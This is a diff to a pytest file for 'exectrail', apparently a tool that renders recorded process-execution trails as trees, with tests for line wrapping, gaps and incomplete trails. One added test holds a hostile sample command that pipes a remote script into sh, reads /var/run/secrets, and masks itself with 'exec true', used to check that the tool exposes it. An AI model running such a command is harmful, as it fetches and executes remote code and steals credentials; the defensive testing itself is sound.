@@ -9,14 +9,18 @@ from pathlib import Path
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from msgspec.structs import replace
 
 from exectrail import cli
 from exectrail.cli import session_tree
 from exectrail.cli import show as show_module
+from exectrail.cli.terminal import cells
 from exectrail.cli.text import Clock
+from exectrail.cli.wrapping import wrapped
 from exectrail.contracts.record import Exit, Node, Record, Request, Resource, encode
 from exectrail.reading import finding
 from exectrail.reading.session_list import in_order
+from exectrail.reading.shell import join
 from exectrail.reading.summary import from_records
 
 
@@ -31,11 +35,18 @@ def record(**fields: object) -> Record:
     return Record(**told | {"kind": "exec", "request_uid": "uid-1"} | fields)  # type: ignore[arg-type] # by keyword
 
 
+def content(*records: Record) -> bytes:
+    """A trail of a whole session with these records, numbered in their order."""
+    start, end = record(kind="session", phase="start"), record(kind="session", phase="end")
+    every = [start, *records, end]
+    return b"".join(encode(replace(each, seq=seq)) for seq, each in enumerate(every))
+
+
 @pytest.fixture
 def tree(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
     def render(*records: Record) -> str:
         path = tmp_path / "trail.jsonl"
-        path.write_bytes(b"".join(map(encode, records)))
+        path.write_bytes(content(*records))
         return show(capsys, "uid-1", path).partition("\n\n")[2]
 
     return render
@@ -107,7 +118,7 @@ def test_what_the_node_ran_while_a_request_was_open_is_not_that_requests(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     path = tmp_path / "trail.jsonl"
-    path.write_bytes(b"".join(map(encode, (record(argv=["id"]), of_two(origin="node", candidates=["uid-1"], seq=1)))))
+    path.write_bytes(content(record(argv=["id"]), of_two(origin="node", candidates=["uid-1"])))
 
     assert "another" not in show(capsys, "uid-1", path)
 
@@ -135,13 +146,13 @@ def test_five_characters_are_too_few_for_a_prefix(
     assert cli.run(["show", alice_uid[:5], str(alice_file)]) == 1
 
 
-def test_a_process_is_shown_by_its_last_program_with_the_chain_before_it(tree: Callable[..., str]) -> None:
+def test_each_program_of_a_process_has_a_line_with_all_its_arguments(tree: Callable[..., str]) -> None:
     text = tree(
         record(process_key="k", argv=["/bin/bash", "-l"], seq=1),
         record(process_key="k", argv=["python3", "-m", "http.server"], seq=2),
     )
 
-    assert "bash → python3 -m http.server  no exit recorded" in text
+    assert "└── /bin/bash -l\n        → python3 -m http.server  no exit recorded" in text
 
 
 def test_a_tag_of_another_session_is_not_hidden(tree: Callable[..., str]) -> None:
@@ -150,13 +161,13 @@ def test_a_tag_of_another_session_is_not_hidden(tree: Callable[..., str]) -> Non
         record(process_key="k", entry_key="k", argv=["sh"], seq=2),
     )
 
-    assert "env → sh" in text
+    assert "env SPO_EXEC_REQUEST_UID=uid-2 sh\n        → sh" in text
 
 
 def test_an_applet_that_env_ran_without_an_exec_is_shown_without_the_tag(tree: Callable[..., str]) -> None:
     text = tree(record(process_key="k", entry_key="k", argv=["env", "SPO_EXEC_REQUEST_UID=uid-1", "id", "-u"]))
 
-    assert "── id -u  no exit recorded  by env, no exec of its own" in text
+    assert "── id -u  by env, no exec of its own  no exit recorded" in text
 
 
 def test_a_fork_of_a_fork_goes_by_the_program_that_forked_first(tree: Callable[..., str]) -> None:
@@ -178,9 +189,9 @@ def test_a_fork_of_a_fork_goes_by_the_program_that_forked_first(tree: Callable[.
         ({"origin": "untracked"}, "untracked"),
         ({"weak": ["argv", "exit"]}, "weak: argv, exit"),
         ({"kind": "exit", "exit": Exit(signal="SIGKILL")}, "killed by SIGKILL"),
-        ({"errno": "ENOENT"}, "failed nosuch: ENOENT"),
+        ({"errno": "ENOENT"}, "nosuch  failed: ENOENT"),
         ({"kind": "syscall", "syscalls": ["ptrace"]}, "called ptrace"),
-        ({"truncated": ["argv"]}, "nosuch …"),
+        ({"truncated": ["argv"]}, "nosuch … (cut: more arguments than are kept)"),
         ({"argv": None, "cmd_line": "ls -l"}, "ls -l  "),
         ({"argv": None, "program": "/bin/ls"}, "/bin/ls  "),
     ],
@@ -232,7 +243,7 @@ def test_no_control_byte_of_the_container_reaches_the_terminal(
 def test_a_session_whose_end_is_missing_says_so(alice_trail: list[Record], alice_uid: str) -> None:
     mine = [line for line in alice_trail if line.request_uid == alice_uid and line.phase != "end"]
 
-    assert "no end recorded" in rendered(finding.Found(from_records(alice_uid, mine), mine))
+    assert "no end recorded" in rendered(finding.Found(from_records(alice_uid, mine), list(map(encode, mine))))
 
 
 def test_a_forged_record_does_not_change_the_user(alice_trail: list[Record], alice_uid: str) -> None:
@@ -244,7 +255,7 @@ def test_a_forged_record_does_not_change_the_user(alice_trail: list[Record], ali
 
 def rendered(found: finding.Found) -> str:
     with redirect_stdout(StringIO()) as output:
-        session_tree.show(found, Clock(utc=True))
+        session_tree.show(found, Clock(utc=True), None)
     return output.getvalue()
 
 
@@ -273,7 +284,7 @@ _LINES = st.builds(
 
 @given(st.lists(_LINES, max_size=12))
 def test_any_mix_of_records_is_shown_and_no_process_twice(lines: list[Record]) -> None:
-    found = finding.Found(from_records("uid-1", lines), lines)
+    found = finding.Found(from_records("uid-1", lines), list(map(encode, lines)))
     processes = show_module.document(found)["processes"]
     keys = [process["processKey"] for process in processes if process["processKey"]]
 
@@ -282,3 +293,185 @@ def test_any_mix_of_records_is_shown_and_no_process_twice(lines: list[Record]) -
     )
     assert rendered(found)
     assert len(list(in_order(record for record in lines if record.kind == "session"))) <= 1
+
+
+def test_what_exec_true_would_hide_is_shown(tree: Callable[..., str]) -> None:
+    attack = "curl -s http://198.51.100.7/x | sh; cat /var/run/secrets/*; exec true"
+
+    text = tree(
+        record(process_key="k", argv=["sh", "-c", attack], pid=7),
+        record(process_key="k", argv=["true"]),
+        record(kind="exit", process_key="k", exit=Exit(0)),
+    )
+
+    assert f"└── sh -c '{attack}'  pid 7\n        → true  exit 0\n" in text
+
+
+def test_failed_execs_stand_among_the_programs_in_their_order(tree: Callable[..., str]) -> None:
+    text = tree(
+        record(process_key="k", argv=["sh"]),
+        record(process_key="k", argv=["nosuch", "-x"], errno="ENOENT"),
+        record(process_key="k", argv=["ls"]),
+    )
+
+    assert "sh\n        → nosuch -x  failed: ENOENT\n        → ls  " in text
+
+
+def test_a_process_that_only_failed_to_run_a_program_is_a_fork(tree: Callable[..., str]) -> None:
+    text = tree(
+        record(process_key="a", argv=["/bin/sh"]),
+        record(kind="clone", process_key="b", parent_key="a"),
+        record(process_key="b", parent_key="a", argv=["nosuch"], errno="ENOENT"),
+    )
+
+    assert "└── sh (fork)\n            → nosuch  failed: ENOENT  no exit recorded" in text
+
+
+LONG = ["sh", "-c", "echo " + " ".join(f"word{n}  two-spaces" for n in range(60)) + " 終わり" * 20]
+
+
+@pytest.mark.parametrize("width", [40, 60, 80, 120, 200])
+def test_a_long_command_is_wrapped_and_no_character_is_lost(
+    width: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "trail.jsonl"
+    path.write_bytes(content(record(process_key="k", argv=LONG)))
+
+    text = show(capsys, "uid-1", path, "--width", width).partition("\n\n")[2]
+
+    assert max(map(cells, text.splitlines())) <= width
+    assert join(LONG) in "".join(line[8 if number > 1 else 4 :] for number, line in enumerate(text.splitlines()))
+
+
+@given(st.lists(st.tuples(st.text(), st.just("")), max_size=4), st.integers(1, 30))
+def test_wrapping_loses_nothing(parts: list[tuple[str, str]], width: int) -> None:
+    lines = list(wrapped(parts, width))
+
+    assert "".join(text for line in lines for text, _ in line) == "".join(text for text, _ in parts)
+    assert all(sum(cells(text) for text, _ in line) <= max(width, 2) for line in lines)
+
+
+def test_gaps_that_fall_into_the_session_are_shown_below_it(
+    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    text = show(capsys, alice_uid, alice_file)
+    document = json.loads(show(capsys, alice_uid, alice_file, "-o", "json"))
+
+    assert "gap        2026-11-23 14:58:03 UTC: lost on its node: 3 ring (overrun)" in text
+    assert [gap["lost"] for gap in document["gaps"]] == [{"ring": 3}]
+
+
+@pytest.mark.parametrize(
+    ("gap", "shown"),
+    [
+        ({"container_id": "c", "timestamp": "2026-11-23T14:58:04.000Z"}, True),
+        ({"container_id": "other", "timestamp": "2026-11-23T14:58:04.000Z"}, False),
+        ({"timestamp": "2026-11-23T14:58:04.000Z", "node": Node("other")}, False),
+        ({"timestamp": "2026-11-23T14:58:02.000Z"}, False),
+        ({"timestamp": "2026-11-23T15:58:04.000Z", "seq": 9}, False),
+        ({"timestamp": "2026-11-23T15:58:04.000Z", "since": "2026-11-23T14:58:04.000Z", "seq": 9}, True),
+    ],
+    ids=["its container", "another container", "another node", "before", "after", "over its end"],
+)
+def test_a_gap_counts_where_and_when_the_session_was(gap: dict[str, object], shown: bool) -> None:
+    mine = [
+        record(container_id="c", seq=0),
+        record(container_id="c", seq=5, timestamp="2026-11-23T14:58:05.000Z"),
+    ]
+    lost = record(**{"kind": "gap", "request_uid": None, "resource": None, "seq": 3} | gap)
+
+    assert finding.gaps_during(mine, [lost]) == ([lost] if shown else [])
+
+
+# ---- what is not the whole ----
+
+
+def test_raw_prints_the_records_as_they_are_in_the_trail(
+    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    raw = show(capsys, alice_uid, alice_file, "--raw").splitlines()
+
+    assert raw == [line for line in alice_file.read_text().splitlines() if alice_uid in line]
+
+
+@pytest.mark.parametrize("uid", ["", " "])
+def test_an_empty_uid_is_an_error(uid: str, alice_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as stop:
+        cli.run(["show", uid, str(alice_file)])
+
+    assert stop.value.code == 2
+    assert "argument UID: it is empty" in capsys.readouterr().err
+
+
+def test_a_short_beginning_of_a_uid_says_how_long_it_must_be(
+    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert cli.run(["show", alice_uid[:5], str(alice_file)]) == 1
+    assert "the beginning of a UID needs 6 characters" in capsys.readouterr().err
+
+
+def shown_of(lines: list[bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
+    path = tmp_path / "trail.jsonl"
+    path.write_bytes(b"".join(lines))
+    code = cli.run(["show", "uid-1", str(path)])
+    return code, capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("kept", "code", "sentence"),
+    [
+        ([0, 1, 2, 3, 4], 0, ""),
+        ([1, 2, 3, 4], 3, "the session's beginning is not in what was read"),
+        ([0, 1, 3, 4], 3, "node n: 1 record is missing in what was read (seq 2)"),
+    ],
+    ids=["whole", "no beginning", "a hole"],
+)
+def test_what_is_not_provably_the_whole_is_said_and_exits_with_3(
+    kept: list[int], code: int, sentence: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    lines = content(record(process_key="k"), record(process_key="l"), record(process_key="m")).splitlines(True)
+
+    found, err = shown_of([lines[at] for at in kept], tmp_path, capsys)
+
+    assert found == code
+    assert sentence in err
+
+
+def test_a_hole_before_or_after_a_session_whose_processes_have_ended_does_not_matter(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    mine = [
+        record(kind="session", phase="start", seq=10),
+        record(process_key="k", seq=11),
+        record(kind="exit", process_key="k", exit=Exit(0), seq=12),
+        record(kind="session", phase="end", seq=13),
+    ]
+    others = [record(request_uid="uid-2", seq=seq) for seq in (5, 20)]
+    lines = [encode(each) for each in [others[0], *mine, others[1]]]
+
+    assert shown_of(lines, tmp_path, capsys) == (0, "")
+
+
+def test_a_record_of_a_newer_version_is_counted_and_exits_with_3(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    lines = content(record(process_key="k"), record(process_key="l")).splitlines(True)
+    newer = [
+        lines[1].replace(b'"kind":"exec"', b'"kind":"teleport"'),
+        lines[2].replace(b"spo/v1_alpha", b"spo/v7"),
+    ]
+
+    code, err = shown_of([lines[0], *newer, lines[3]], tmp_path, capsys)
+
+    assert code == 3
+    assert "1 record is not understood (version spo/v7)" in err
+    assert "teleport" in err
+
+
+def test_a_missing_file_among_many_is_named(
+    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert cli.run(["show", alice_uid, str(alice_file), "/nonexistent.jsonl"]) == 3
+    printed = capsys.readouterr()
+    assert "sleep 0.1" in printed.out
+    assert "/nonexistent.jsonl: No such file or directory" in printed.err
